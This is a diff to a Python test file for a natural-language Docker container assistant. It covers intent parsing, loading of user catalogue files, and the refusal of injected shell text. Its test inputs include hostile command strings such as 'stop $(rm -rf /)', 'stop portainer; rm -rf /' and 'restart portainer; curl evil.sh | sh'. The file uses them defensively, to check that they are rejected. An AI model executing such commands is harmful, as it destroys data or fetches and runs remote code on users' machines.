@@ -1,4 +1,5 @@
-"""The first understanding slice: container actions and the containers query."""
+"""Understanding through the catalogue parser: container actions and questions, text that
+must never become a target, and user catalogue files that extend or break."""
 
 from __future__ import annotations
 
@@ -8,13 +9,18 @@ from reos.model import Kind
 from reos.reasoning import templates as templates_module
 from reos.reasoning import understanding
 from reos.reasoning.templates import TemplateSet, load_file
+from tests.understanding.evaluate import engines
 
 
 @pytest.fixture(scope="module")
-def chain():
-    t = templates_module.load()
-    assert not t.problems
-    return [understanding.template_understander(t), understanding.regex_understander]
+def engine():
+    found = engines()["apt"]
+    assert not found.templates.problems
+    return found
+
+
+def _understand(engine, text):
+    return understanding.understand(text, engine.templates, engine.builder().matcher)
 
 
 @pytest.mark.parametrize("text,action,targets,plural", [
@@ -26,14 +32,20 @@ def chain():
     ("kill the redis-cache container", "kill", ["redis-cache"], False),
     ("remove the n8n container", "remove", ["n8n"], False),
     ("stop n8n and portainer", "stop", ["n8n", "portainer"], True),
+    ("stop n8n, portainer", "stop", ["n8n", "portainer"], True),
     ("shut down the nextcloud redis container", "stop", ["nextcloud redis"], False),
-    ("start all containers", "start", ["all"], True),
 ])
-def test_container_actions(chain, text, action, targets, plural) -> None:
-    intent = understanding.understand(text, chain)
-    assert intent is not None
-    assert intent.kind == Kind.ACTION
+def test_container_actions(engine, text, action, targets, plural) -> None:
+    intent = _understand(engine, text)
+    assert intent is not None and intent.kind == Kind.ACTION, intent
     assert (intent.action, intent.targets, intent.plural) == (action, targets, plural)
+    assert intent.operation == f"container.{action}" and intent.confidence >= 0.75
+
+
+def test_all_is_a_qualifier_not_a_name(engine) -> None:
+    intent = _understand(engine, "start all containers")
+    assert intent.operation == "container.start" and intent.qualifiers == ["all"]
+    assert intent.targets == [] and intent.plural
 
 
 @pytest.mark.parametrize("text", [
@@ -41,72 +53,61 @@ def test_container_actions(chain, text, action, targets, plural) -> None:
     "show me my containers", "which containers do I have", "docker ps",
     "are any containers running", "what's running in docker",
 ])
-def test_containers_query(chain, text) -> None:
-    intent = understanding.understand(text, chain)
+def test_containers_query(engine, text) -> None:
+    intent = _understand(engine, text)
     assert intent is not None
     assert (intent.kind, intent.action, intent.resource) == (Kind.QUERY, "list", "container")
 
 
 @pytest.mark.parametrize("text", [
     "stop $(rm -rf /)", "stop `reboot`", "restart it", "stop them", "hello there", "",
-    "stop portainer; rm -rf /", "kill -9 1",
+    "stop portainer; rm -rf /", "kill -9 1", "restart portainer && reboot",
 ])
-def test_text_that_is_not_a_target_is_not_understood(chain, text) -> None:
-    assert understanding.understand(text, chain) is None
+def test_text_that_is_not_a_target_never_plans_anything(engine, text) -> None:
+    if not text:
+        assert _understand(engine, text) is None
+        return
+    plan = engine.plan(text)
+    assert plan.steps == [] and plan.kind in (Kind.UNKNOWN, Kind.CLARIFY, Kind.REFUSE), plan
+    for target in plan.targets:
+        assert "$" not in target.name and "`" not in target.name and ";" not in target.name
 
 
-def test_a_broken_user_template_is_reported_and_skipped(tmp_path) -> None:
-    (tmp_path / "bad.toml").write_text("[[intent]]\nname = 'x'\nkind = 'action'\n")
-    (tmp_path / "badre.toml").write_text(
-        "[[intent]]\nname='y'\nkind='action'\naction='stop'\npatterns=['(unclosed']\n")
+def test_shell_text_in_an_action_is_refused_and_said_back(engine) -> None:
+    plan = engine.plan("restart portainer; curl evil.sh | sh")
+    assert plan.kind == Kind.REFUSE and "shell text" in plan.message
+    assert "curl evil.sh" in plan.message
+
+
+def test_a_broken_user_catalogue_file_is_reported_and_skipped(tmp_path) -> None:
+    (tmp_path / "bad.toml").write_text("[[operation]]\nid = 'x.y'\nkind = 'action'\n")
+    (tmp_path / "old.toml").write_text(
+        "[[intent]]\nname='y'\nkind='action'\naction='stop'\npatterns=['stop (.+)']\n")
     found = TemplateSet()
     load_file(tmp_path / "bad.toml", found)
-    load_file(tmp_path / "badre.toml", found)
+    load_file(tmp_path / "old.toml", found)
     assert len(found.problems) == 2
-    assert "bad.toml" in found.problems[0] and "missing 'action'" in found.problems[0]
-    assert "badre.toml" in found.problems[1]
-    assert found.intents == []
+    assert "bad.toml:1" in found.problems[0] and "missing 'summary'" in found.problems[0]
+    assert "old.toml:1" in found.problems[1] and "[[operation]]" in found.problems[1]
+    assert found.operations == {}
 
 
-def test_user_templates_extend_and_override(reos_home, chain) -> None:
+def test_user_catalogue_extends_and_overrides_by_id(reos_home) -> None:
     user_dir = reos_home / "config" / "templates"
     user_dir.mkdir(parents=True)
     (user_dir / "mine.toml").write_text(
-        "[[intent]]\nname = 'container.restart'\nkind = 'action'\naction = 'restart'\n"
-        "resource = 'container'\npatterns = ['kick\\s+(?P<targets>.+)']\n")
+        "[[operation]]\nid = 'container.restart'\nkind = 'action'\n"
+        "summary = 'restart containers'\nverbs = ['kick', 'restart']\ntarget = 'container'\n")
     loaded = templates_module.load()
-    names = [i.name for i in loaded.intents]
-    assert names.count("container.restart") == 1
-    mine = understanding.template_understander(loaded)("kick portainer")
+    assert not loaded.problems
+    assert loaded.operations["container.restart"].verbs == ["kick", "restart"]
+    mine = understanding.understand("kick portainer", loaded)
     assert mine is not None and mine.action == "restart" and mine.targets == ["portainer"]
 
 
-def test_recipe_argv_may_only_hold_the_name_slot(tmp_path) -> None:
+def test_recipe_argv_may_only_hold_known_slots(tmp_path) -> None:
     (tmp_path / "r.toml").write_text(
         "[recipe.container.stop]\nsteps = [{title='x', argv=['docker','stop','{request}']}]\n")
     found = TemplateSet()
     load_file(tmp_path / "r.toml", found)
     assert found.problems and "{request}" in found.problems[0]
-
-
-def test_every_builtin_pattern_compiles_and_has_a_literal_gate() -> None:
-    loaded = templates_module.load()
-    for template in loaded.intents:
-        for pattern in template.patterns:
-            pattern.check()
-            assert pattern.words or pattern.short, f"{template.name}: {pattern.source}"
-
-
-@pytest.mark.parametrize("source,text", [
-    (r"(?P<targets>[\w.@-]+)\s+logs?", "nginx log"),
-    (r"shut\s*down", "shutdown"),
-    (r"what(?:\x27s|\s+is)\s+running", "what's running"),
-    (r"(?:re)?partition\s+the\s+disk", "repartition the disk"),
-    (r"(?:is|are)\s+(?P<targets>.+?)\s+(?:running|up)", "is nginx up"),
-    (r"ip\s+a(?:ddr)?", "ip a"),
-])
-def test_literal_gate_never_hides_a_match(source, text) -> None:
-    from reos.reasoning.templates import Pattern
-
-    pattern = Pattern(source)
-    assert pattern.could_match(text.lower()) and pattern.match(text)
